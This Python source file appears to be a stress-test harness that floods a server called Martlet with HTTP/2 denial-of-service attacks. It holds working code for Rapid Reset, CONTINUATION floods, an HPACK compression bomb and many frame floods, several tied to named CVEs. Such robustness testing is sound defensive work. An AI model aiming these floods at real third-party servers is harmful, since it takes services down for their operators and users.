"""HTTP/2 clients that send as much expensive input as they can: one function per attack.

Each runs like the floods of flooders.py, and gets the ports of a run: `h2` is a port of Martlet
that expects HTTP/2 without TLS. After the end of a connection, the next one begins.
"""

import select
import struct

from flooders import BLOCK, dial
from http2_frames import (
    CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PRIORITY, PRIORITY_UPDATE, RESET,
    WHOLE, WINDOW_UPDATE, beginning, block, field, frame, get, settings,
)

CANCEL = struct.pack(">I", 8)
STREAM_MAX = (1 << 31) - 1


def converse(places, frames, first=beginning(), reads=True):
    """Sends what `frames` yields, endlessly."""
    while True:
        try:
            with dial(places["h2"]) as connection:
                connection.sendall(first)
                connection.setblocking(False)
                say(connection, frames(), reads)
        except OSError:
            pass


def say(connection, frames, reads):
    readers = [connection] if reads else []
    rest = b""
    while True:
        readable, writable, _ = select.select(readers, [connection], [])
        if readable and not connection.recv(BLOCK):
            return
        if not writable:
            continue
        while len(rest) < 16_384:
            if (part := next(frames, None)) is None:
                break
            rest += part
        if not rest:
            readers = [connection]
            select.select(readers, [], [], 30)
        else:
            rest = rest[connection.send(rest) :]


def streams():
    return range(1, STREAM_MAX, 2)


# MARK: Streams


def rapid_reset(places):
    """CVE-2023-44487."""

    def frames():
        for stream in streams():
            yield get(stream, b"/calm") + frame(RESET, 0, stream, CANCEL)

    converse(places, frames)


def caused_resets(places):
    """CVE-2025-8671: the server resets each stream, because its window overflows."""

    def frames():
        for stream in streams():
            yield get(stream, b"/calm") + frame(
                WINDOW_UPDATE, 0, stream, struct.pack(">I", STREAM_MAX)
            )

    converse(places, frames)


def malformed_requests(places):
    def frames():
        for stream in streams():
            yield frame(HEADERS, WHOLE, stream, block(b"/calm") + field(b"", b"nameless"))

    converse(places, frames)


def excess_streams(places):
    """More streams than the limit, none of which ends. SETTINGS is never acknowledged."""

    def frames():
        for stream in streams():
            yield frame(HEADERS, END_HEADERS, stream, block(b"/sink", 0x83))

    converse(places, frames)


def many_requests(places):
    """As many as the limit of streams allows, of Martlet's own answers."""

    def frames():
        for stream in streams():
            yield get(stream, b"/here")

    converse(places, frames)


def windows_of_zero(places):
    """A hundred answers that the client doesn't let come, on each of many connections."""
    connections = []
    first = beginning((4, 0)) + b"".join(get(stream, b"/here") for stream in range(1, 200, 2))
    while True:
        try:
            while len(connections) < 100:
                connections.append(dial(places["h2"]))
                connections[-1].sendall(first)
            select.select(connections, [], [], 1)
            for connection in list(connections):
                if not connection.recv(BLOCK):
                    connections.remove(connection)
        except OSError:
            connections.clear()


# MARK: Frames


def repeated(*parts, first=beginning(), reads=True):
    def flood(places):
        def frames():
            while True:
                yield b"".join(parts) * 100

        converse(places, frames, first, reads)

    return flood


# A request whose body does not end.
OPEN = beginning() + frame(HEADERS, END_HEADERS, 1, block(b"/sink", 0x83))
ONE = struct.pack(">I", 1)

pings = repeated(frame(PING, 0, 0, b"flooding"))
pings_unread = repeated(frame(PING, 0, 0, b"flooding"), reads=False)
settings_flood = repeated(settings((4, 65_535)))
empty_data = repeated(frame(DATA, 0, 1), first=OPEN)
data_of_one_byte = repeated(frame(DATA, 0, 1, b"m"), first=OPEN)
window_updates = repeated(frame(WINDOW_UPDATE, 0, 0, ONE))
stream_window_updates = repeated(frame(WINDOW_UPDATE, 0, 1, ONE), first=OPEN)
priorities = repeated(frame(PRIORITY, 0, 3, b"\0\0\0\1\7"))
priority_updates = repeated(frame(PRIORITY_UPDATE, 0, 0, b"\0\0\0\5u=1"))
unknown_frames = repeated(frame(0xEE, 0, 0, b"unknown"))
padding = repeated(frame(DATA, 8, 1, b"\xff" + b"\0" * 255), first=OPEN)
data_on_closed_stream = repeated(
    frame(DATA, 0, 1, b"m" * 100), first=beginning() + get(1, b"/here")
)


# MARK: Heads


def continuations(places):
    """CVE-2024-27316: a head that does not end."""

    def frames():
        yield frame(HEADERS, 0, 1, block(b"/calm"))
        while True:
            yield frame(CONTINUATION, 0, 1, field(b"x", b"y" * 100) * 100)

    converse(places, frames)


def slow_continuations(places):
    """As many as allowed, all of them empty, one head after another."""

    def frames():
        for stream in streams():
            yield (
                frame(HEADERS, 1, stream, block(b"/here")) + frame(CONTINUATION, 0, stream) * 7
                + frame(CONTINUATION, END_HEADERS, stream)
            )

    converse(places, frames)


def compression_bomb(places):
    """CVE-2026-47774: one large entry of the table, named sixteen thousand times."""
    name, value = b"x", b"v" * 4_000
    # A length of 4,000 is 127 and 3,873 in the encoding of RFC 7541 5.1.
    entry = b"\x40\x01" + name + b"\x7f" + bytes([3_873 & 127 | 128, 3_873 >> 7]) + value

    def frames():
        yield frame(HEADERS, WHOLE, 1, block(b"/here") + entry)
        for stream in range(3, STREAM_MAX, 2):
            yield frame(HEADERS, WHOLE, stream, block(b"/here") + b"\xbe" * 16_000)

    converse(places, frames)


def table_sizes(places):
    """Each head changes the size of the table, and fills it again."""
    entry = b"\x40\x01x\x64" + b"v" * 100

    def frames():
        for stream in streams():
            head = b"\x20\x3f\xe1\x1f" + block(b"/here") + entry * 30
            yield frame(HEADERS, WHOLE, stream, head)

    converse(places, frames)


def cookie_crumbs(places):
    def frames():
        for stream in streams():
            yield frame(
                HEADERS, WHOLE, stream, block(b"/here") + field(b"cookie", b"a=b") * 1_000
            )

    converse(places, frames)


HTTP2_FLOODS = {
    "HTTP/2 rapid reset": rapid_reset,
    "HTTP/2 resets caused at the server": caused_resets,
    "HTTP/2 malformed requests": malformed_requests,
    "HTTP/2 streams beyond the limit": excess_streams,
    "HTTP/2 fixed answers": many_requests,
    "HTTP/2 answers with windows of 0": windows_of_zero,
    "HTTP/2 PING": pings,
    "HTTP/2 PING, nothing read": pings_unread,
    "HTTP/2 SETTINGS": settings_flood,
    "HTTP/2 empty DATA": empty_data,
    "HTTP/2 DATA of one byte": data_of_one_byte,
    "HTTP/2 DATA with padding only": padding,
    "HTTP/2 DATA on a closed stream": data_on_closed_stream,
    "HTTP/2 WINDOW_UPDATE": window_updates,
    "HTTP/2 WINDOW_UPDATE of a stream": stream_window_updates,
    "HTTP/2 PRIORITY": priorities,
    "HTTP/2 PRIORITY_UPDATE": priority_updates,
    "HTTP/2 unknown frames": unknown_frames,
    "HTTP/2 CONTINUATION without end": continuations,
    "HTTP/2 empty CONTINUATION": slow_continuations,
    "HTTP/2 compression bomb": compression_bomb,
    "HTTP/2 table sizes": table_sizes,
    "HTTP/2 cookie crumbs": cookie_crumbs,
}
